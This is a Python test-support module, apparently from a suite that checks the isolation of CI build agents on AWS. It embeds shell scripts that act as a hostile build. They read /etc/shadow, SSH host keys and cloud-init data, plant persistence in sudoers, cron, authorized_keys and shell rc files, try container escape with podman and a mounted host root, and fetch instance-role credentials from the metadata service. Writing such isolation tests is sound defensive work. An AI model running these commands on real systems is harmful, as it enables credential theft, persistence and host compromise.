"""What a hostile build on an agent tries, alone and in a container of its own; and who its instance is for AWS."""

from __future__ import annotations

from typing import Any

import boto3
from agent_builds import Fleet
from botocore.exceptions import ClientError
from trial import Launched

REGION = "eu-central-1"
TOKEN = "curl -sf --max-time 5 -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60'"
ATTACK = """set +ex
cat > probe.py <<'P'
import socket, sys
word = sys.argv[1]
for place in sys.argv[2:]:
    host, _, port = place.rpartition(':')
    try:
        socket.create_connection((host.strip('[]'), int(port)), timeout=1.5).close()
        print(word + ':', place, flush=True)
    except OSError:
        pass
P
python3 probe.py reached OPEN
python3 probe.py got CLOSED
unshare -Ur true && echo 'namespace: yes'
unshare -Ur python3 probe.py got CLOSED
for path in /etc/ssh/ssh_host_ed25519_key /var/lib/cloud/instance/user-data.txt /run/cloud-init/instance-data-sensitive.json \\
    /var/lib/cloud/instance/obj.pkl /var/log/cloud-init.log /var/log/cloud-init-output.log /etc/shadow /proc/1/environ; do
    cat $path >/dev/null 2>&1 && echo "got: $path"
    unshare -Ur cat $path >/dev/null 2>&1 && echo "got: $path in a namespace"
done
for path in /etc/ssh/authorized_keys/jenkins /etc/ssh/sshd_config.d/20-own.conf /etc/sudoers.d/own /etc/profile.d/own.sh \\
    /etc/environment /etc/cron.d/own /usr/local/bin/own /etc/ssh/authorized_keys/root; do
    (echo x >> $path) 2>/dev/null && echo "got: written to $path"
done
sudo -n id 2>/dev/null && echo 'got: sudo'
(echo; echo jenkins; echo root) | su -c id 2>/dev/null && echo 'got: su'
busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager \\
    Reload >/dev/null 2>&1 && echo 'got: systemd'
python3 -c "
import os, glob
for path in glob.glob('/proc/[0-9]*'):
    try:
        if os.stat(path).st_uid != os.getuid():
            open(path + '/environ').read(1)
            print('got:', path)
    except OSError:
        pass
"
env | grep -E '^(AWS_|SSH_AUTH_SOCK|CREDENTIALS_DIRECTORY)' | sed 's/^/got: /'
ssh-keygen -q -t ed25519 -N '' -f mine && mkdir -p ~/.ssh && cat mine.pub >> ~/.ssh/authorized_keys
chmod 600 ~/.ssh/authorized_keys
options='-o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null'
ssh -i mine $options localhost true 2>/dev/null && echo 'got: a login'
for file in ~/.ssh/rc ~/.bashrc ~/.profile ~/.bash_profile ~/.ssh/environment ~/.pam_environment; do
    echo 'echo planted-noise; touch /tmp/planted' >> $file
done
echo planted > ~/agent/planted; echo planted > /var/tmp/planted
setsid nohup sleep 9999 >/dev/null 2>&1 &
echo 'planted: yes'; echo "who: $(id -un) $(id -Gn)"
true
"""
OUTBREAK = """set +ex
cat > probe.sh <<'P'
for place in CLOSED; do
    nc -w 2 ${place%:*} ${place##*:} -e true && echo "got: $place by $1"
done
nc -w 2 HOST 443 -e true && echo "reached: $1"
for path in etc/shadow etc/ssh/ssh_host_ed25519_key var/lib/cloud/instance/user-data.txt \\
    proc/1/environ proc/1/root/etc/shadow; do
    cat /host/$path >/dev/null 2>&1 && echo "got: $path by $1"
done
cat /host/etc/passwd >/dev/null && echo "read: $1"
for path in etc/cron.d/own etc/ssh/authorized_keys/jenkins usr/local/bin/own proc/sys/kernel/core_pattern proc/sysrq-trigger; do
    echo x 2>/dev/null >> /host/$path && echo "got: written to $path by $1"
done
P
for network in NETWORKS; do
    for user in 0 1234; do
        podman run --rm --network $network --user $user --pid host --volume /:/host --volume $PWD:/probe:ro \\
            localhost/hello sh /probe/probe.sh "$network-$user" 2>/dev/null
    done
done
podman run --rm localhost/hello sh -c 'echo ids: $(cat /proc/self/uid_map)'
true
"""


def list_metadata_services(fleet: Fleet) -> list[str]:
    """Where the metadata service of the local cloud answers: at the router of each subnet, with a port of its own."""
    context = fleet.launched.context
    port = context.stacks["agents-linux"].parameters["MetadataUrl"].rpartition(":")[2]
    subnets = context.world.aws("ec2").describe_subnets()["Subnets"]
    return [f"{subnet['CidrBlock'].rpartition('.')[0]}.1:{port}" for subnet in subnets]


def read_addresses(fleet: Fleet) -> list[dict[str, str]]:
    """The instances that run now."""
    reservations = fleet.launched.context.world.aws("ec2").describe_instances(
        Filters=[{"Name": "instance-state-name", "Values": ["running"]}]
    )["Reservations"]
    return [
        {"instance": it["InstanceId"], "address": it["PrivateIpAddress"]}
        for reservation in reservations
        for it in reservation["Instances"]
    ]


def make_client(service: str, launched: Launched, role: dict[str, str]) -> Any:
    keys = {
        "aws_access_key_id": role["AccessKeyId"],
        "aws_secret_access_key": role["SecretAccessKey"],
        "aws_session_token": role["Token"],
    }
    return boto3.client(service, endpoint_url=launched.endpoint, region_name=REGION, **keys)


def is_denied(call: Any, **asked: Any) -> bool:
    """Whether a call is refused for want of permission; any other refusal is an error."""
    try:
        call(**asked)
    except ClientError as error:
        if error.response["Error"]["Code"] in {"AccessDenied", "AccessDeniedException", "UnauthorizedOperation"}:
            return True
        raise
    return False


def take_role(place: str) -> str:
    """A shell script that prints the credentials of an instance's role, as root takes them."""
    return f"""token=$({TOKEN} {place}/latest/api/token)
ask() {{ curl -sf --max-time 5 -H "X-aws-ec2-metadata-token: $token" {place}/latest/meta-data/iam/security-credentials/$1; }}
ask "$(ask '')" """
